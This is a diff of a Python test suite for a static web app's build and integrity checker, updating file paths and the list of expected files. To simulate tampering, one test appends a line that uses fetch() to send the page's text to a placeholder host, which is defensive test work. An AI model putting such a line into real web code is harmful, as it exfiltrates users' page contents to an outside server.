@@ -71,13 +71,13 @@ def test_check_passes_on_a_fresh_build_and_names_every_tampered_file(built, tmp_
     assert build.main(["--check", "--out", str(built)]) == 0
     copy = tmp_path / "dist"
     shutil.copytree(built, copy)
-    original = (copy / "app.js").read_bytes()
-    (copy / "app.js").write_bytes(original + b"\nfetch('https://example.invalid/' + document.body.innerText);\n")
+    original = (copy / "app" / "main.js").read_bytes()
+    (copy / "app" / "main.js").write_bytes(original + b"\nfetch('https://example.invalid/' + document.body.innerText);\n")
     (copy / "pyodide" / "python_stdlib.zip").unlink()
     (copy / "extra.js").write_text("1")
     assert build.main(["--check", "--out", str(copy)]) == 1
     err = capsys.readouterr().err
-    assert "changed: app.js" in err
+    assert "changed: app/main.js" in err
     assert f"expected sha256 {hashlib.sha256(original).hexdigest()}" in err
     assert "missing: pyodide/python_stdlib.zip" in err
     assert "not in the manifest: extra.js" in err
@@ -85,8 +85,8 @@ def test_check_passes_on_a_fresh_build_and_names_every_tampered_file(built, tmp_
 
 def test_the_folder_holds_only_what_the_page_needs(built):
     files = {p.relative_to(built).as_posix() for p in built.rglob("*") if p.is_file()}
-    for needed in ("index.html", "app.js", "worker.js", "style.css", "sw.js", "sample.pdf", "manifest.json",
-                   "pyodide/pyodide.mjs", "pyodide/pyodide.asm.mjs", "pyodide/pyodide.asm.wasm",
+    for needed in ("index.html", "app/main.js", "app/files.js", "app/review.js", "app/drawing.js", build.ERROR_TITLES,
+                   "worker.js", "style.css", "sw.js", "sample.pdf", "manifest.json", "pyodide/pyodide.mjs", "pyodide/pyodide.asm.mjs", "pyodide/pyodide.asm.wasm",
                    "pyodide/python_stdlib.zip", "pyodide/pyodide-lock.json", "vendor/aes.mjs", "licences.txt",
                    "pdfjs/pdf.min.mjs", "pdfjs/pdf.worker.min.mjs", "pdfjs/wasm/openjpeg.wasm",
                    "pdfjs/cmaps/UniJIS-UCS2-H.bcmap", "bridge.js", "pages.js"):
@@ -280,7 +280,9 @@ def test_the_build_is_reproducible(built, cache, tmp_path):
 
 
 def test_our_files_name_no_other_origin(built):
-    for name in ("index.html", "app.js", "worker.js", "sw.js", "style.css"):
+    ours = {p.relative_to(REPO / "site").as_posix() for p in (REPO / "site").rglob("*") if p.suffix in (".html", ".js", ".css")}
+    assert {"index.html", "app/main.js", "worker.js", "sw.js", "style.css"} <= ours
+    for name in sorted(ours | {build.ERROR_TITLES}):
         text = (built / name).read_text()
         assert not re.search(r"(?:https?:)?//[a-z0-9.-]+\.[a-z]{2,}/", text), name
 
